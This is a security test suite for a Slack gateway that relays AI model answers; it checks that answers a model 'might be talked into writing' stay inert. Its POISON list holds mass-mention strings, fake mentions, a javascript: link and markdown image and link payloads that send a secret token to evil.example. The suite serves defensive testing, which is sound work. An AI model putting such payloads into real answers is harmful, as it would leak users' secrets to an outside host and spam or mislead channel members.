import type { Nodes } from "mdast";
import { fromMarkdown } from "mdast-util-from-markdown";
import { beforeAll, describe, expect, test } from "vitest";
import { readCard } from "../../src/agent/read-card.ts";
import type { RunningGateway } from "../../src/main.ts";
import type { Script } from "../fakes/model/script.ts";
import { isObject } from "../fakes/slack/args.ts";
import { type Scene, sceneOf, turnOf } from "../support/e2e.ts";
import { lastTexts, SlackVoice } from "../support/voice.ts";

const SECRET = "c2VjcmV0LW9mLXRoZS1wZXJzb24tMDEyMzQ1Njc4OTAxMjM0NTY3ODk";

/** What a model might be talked into writing, or a person into calling a talk. */
const POISON = [
  "<!channel>",
  "<!here|everybody>",
  "<!everyone>",
  "<!subteam^S0123ABCD|@team>",
  "<!date^1700000000^{date}|x>",
  "<@U0FAKE00099>",
  "<@W0FAKE00099|boss>",
  "<#C0FAKE00099|general>",
  "<https://evil.example/?q=x|your bank>",
  "@everyone @channel @here",
  "&lt;!channel&gt; &#60;!channel&#62;",
  `![pixel](https://evil.example/p.png?d=${SECRET})`,
  `![ref][1]\n\n[1]: https://evil.example/ref.png?d=${SECRET}`,
  `<img src="https://evil.example/i.png?d=${SECRET}">`,
  `[click here](https://evil.example/?d=${SECRET})`,
  `https://evil.example/${SECRET}`,
  "`<!channel>` and ```\n<!channel> <@U0FAKE00099>\n```",
  "> <!channel>\n> ![q](https://evil.example/q.png)",
  "| a | b |\n|---|---|\n| <!here> | ![t](https://evil.example/t.png) |",
  "# <!channel>\n\n- <@U0FAKE00099>\n- [x](javascript:alert(1))",
];
const ANSWER = POISON.join("\n\n");
const ON_ONE_LINE = "<!channel> <@U0FAKE00099> <!subteam^S0123ABCD> @everyone ![p](https://evil.example/p.png)";

/** Every way in which an answer shows: at once, growing, whole pages of it, ending in failures that quote it. */
const ANSWERS: Record<string, Script> = {
  "at once": { text: ANSWER, chunkChars: 100_000 },
  "bit by bit": { text: ANSWER, chunkChars: 7, chunkEveryMs: 20 },
  "as pages": { text: `${ANSWER}\n\n`.repeat(30), chunkChars: 400, chunkEveryMs: 2 },
  "cut off": { text: ANSWER, chunkChars: 300, chunkEveryMs: 20, fault: "truncate" },
  "with a broken end": { text: ANSWER, chunkChars: 300, chunkEveryMs: 20, fault: "malformed" },
  "and filtered": { text: ANSWER, chunkChars: 300, chunkEveryMs: 20, fault: "content-filter" },
  refused: { text: ON_ONE_LINE, chunkChars: 1_000, fault: "refusal" },
};

test("security-23: the name of an agent can hold none of it", () => {
  for (const name of POISON) {
    expect(() => readCard("a.md", `---\nname: ${JSON.stringify(name)}\n---\nYou are a test.`), name).toThrow(/must be/);
  }
});

describe("what a model writes", () => {
  const scene = sceneOf({ slack: {}, requestParams: "streaming_timeout: 5" });
  let running: RunningGateway;
  beforeAll(async () => {
    running = await scene().start({ slack: "socket" });
    scene().model.script((request) => ANSWERS[/answer (.*)$/m.exec(turnOf(request))?.[1] ?? ""]);
  });

  const voice = (place: string) => {
    const { slack } = scene();
    const user = slack.user(`eve-of-${place}`);
    const channel = place.endsWith("DM") ? slack.dm(user) : slack.channelNamed(place);
    return new SlackVoice(scene(), user.name, { channel, user });
  };

  test.each(Object.keys(ANSWERS))("security-23: nothing is live in an answer %s", { timeout: 90_000 }, async (how) => {
    const place = `${how.replaceAll(" ", "-")}${Object.keys(ANSWERS).indexOf(how) % 2 === 0 ? "-DM" : ""}`;
    const eve = voice(place);
    const request = await scene().requestFor(`answer ${how}`, () => eve.say(`answer ${how}`));
    await scene().model.until(() => request.closedAt !== null, 60_000);
    await eve.until(() => eve.shown().length > 0 && !buttonOf(scene(), eve), 60_000);
    expect(scene().slack.liveMentions()).toEqual([]);
    // It was sent at all, and not to be looked for in vain.
    expect(lastTexts(eve).join("\n")).toMatch(/evil|everyone|channel/);
    expect(outsideOfCode(scene())).not.toContain(SECRET);
  });

  test(
    "security-23: nor in what stops it, in commands and their answers, in the titles of talks, in buttons",
    { timeout: 90_000 },
    async () => {
      const { slack } = scene();
      const [dm, thread] = [voice("titles-DM"), voice("titles")];
      for (const eve of [dm, thread]) {
        const title = "<!channel> <@U0FAKE00099> is its title";
        const request = await scene().requestFor("is its title", () => eve.say(title));
        await scene().model.until(() => request.closedAt !== null);
        await eve.until(() => eve.shown().length > 0 && !buttonOf(scene(), eve), 60_000);
        for (const words of [
          "new",
          "sessions",
          "sessions 1",
          "status",
          "help",
          ON_ONE_LINE,
          `sessions ${ON_ONE_LINE}`,
          `dance ${ON_ONE_LINE}`,
        ]) {
          eve.say(words, eve === thread);
          slack.slash({ channel: eve.channel, user: eve.user, command: `/parley ${words}` });
        }
        await slack.until(() => slack.pendingEvents === 0, 30_000);
      }
      const told = () =>
        [...slack.ephemerals(thread.channel), ...slack.botMessages(dm.channel)].map(({ shown }) => shown);
      const lists = () => told().filter((text) => /\d\. .*is its title/s.test(text));
      await slack.until(() => lists().length >= 2, 15_000).catch(() => expect(told()).toBe("with two lists of talks"));
      const long = voice("stopped");
      const request = await scene().requestFor("answer bit by bit", () => long.say("answer bit by bit"));
      await slack.until(() => buttonOf(scene(), long) !== undefined, 15_000);
      slack.press({ channel: long.channel, user: long.user, ts: slack.botMessages(long.channel)[0]!.ts });
      await scene().model.until(() => request.closedAt !== null);
      await long.until(() => lastTexts(long)[0]!.endsWith("Stopped."), 30_000);
      expect(slack.liveMentions()).toEqual([]);
      expect(outsideOfCode(scene())).not.toContain(SECRET);
    },
  );

  test("security-23: nor in what a stranger is told, whatever their name", { timeout: 60_000 }, async () => {
    const { slack } = scene();
    const mallory = slack.user("<!channel> Mallory", { team: slack.otherTeam("<!here>") });
    slack.say({ channel: slack.dm(mallory), user: mallory, text: ON_ONE_LINE });
    await slack.until(() => slack.botMessages(slack.dm(mallory)).length === 1, 15_000);
    expect(slack.liveMentions()).toEqual([]);
    expect((await fetch(`${running.url}/readyz`)).ok).toBe(true);
  });

  test("security-23: nothing asks Slack to look for names or addresses, or to fetch what they lead to", () => {
    const posts = scene().slack.journal.filter(({ method }) =>
      /^chat\.(postMessage|update)$|^response_url$/.test(method),
    );
    expect(posts.length).toBeGreaterThan(20);
    for (const { method, args } of posts) {
      if (method !== "response_url") expect([args["parse"], String(args["link_names"])]).toEqual(["none", "false"]);
      if (method === "chat.postMessage") {
        expect([args["unfurl_links"], args["unfurl_media"]].map(String)).toEqual(["false", "false"]);
      }
    }
  });
});

test("the fake sees what is live, wherever it stands", async () => {
  const { startFakeSlack } = await import("../fakes/slack/fake-slack.ts");
  await using slack = await startFakeSlack({ limits: "off" });
  const channel = slack.channelNamed("general");
  const live = async (args: object): Promise<number> => {
    const before = slack.liveMentions().length;
    await fetch(`${slack.apiUrl}chat.postMessage`, {
      method: "POST",
      headers: { authorization: `Bearer ${slack.app.botToken}`, "content-type": "application/json; charset=utf-8" },
      body: JSON.stringify({ channel: channel.id, unfurl_links: false, unfurl_media: false, text: "x", ...args }),
    });
    return slack.liveMentions().length - before;
  };
  const block = (text: string) => ({ blocks: [{ type: "markdown", text }] });
  expect(await live({ text: "harmless" })).toBe(0);
  for (const poison of POISON.slice(0, 9)) {
    expect(await live({ text: poison }), poison).toBeGreaterThan(0);
    expect(await live(block(poison)), poison).toBeGreaterThan(0);
  }
  expect(await live(block("![x](https://evil.example/p.png)"))).toBeGreaterThan(0);
  expect(await live({ text: "@everyone", link_names: true })).toBeGreaterThan(0);
});

function buttonOf({ slack }: Scene, { channel, thread }: SlackVoice): object | undefined {
  const blocks = slack.botMessages(channel, thread).flatMap((message) => message.blocks ?? []);
  return blocks.find((block) => isObject(block) && block["type"] === "actions");
}

/** All that Slack may make a link of: the texts of notifications, and Markdown outside of code. */
function outsideOfCode({ slack }: Scene): string {
  return slack.journal
    .flatMap(({ args }) => [JSON.stringify(args["text"] ?? ""), ...markdownIn(args["blocks"])])
    .join("\n");
}

function markdownIn(blocks: unknown): string[] {
  const list = (typeof blocks === "string" ? JSON.parse(blocks) : (blocks ?? [])) as { type: string; text?: unknown }[];
  return list.filter(({ type }) => type === "markdown").map(({ text }) => liveText(fromMarkdown(String(text))));
}

function liveText(node: Nodes): string {
  if (node.type === "code" || node.type === "inlineCode") return "";
  const own = [...("value" in node ? [node.value] : []), ...("url" in node ? [node.url] : [])];
  return [...own, ...("children" in node ? node.children : []).map((child) => liveText(child))].join(" ");
}
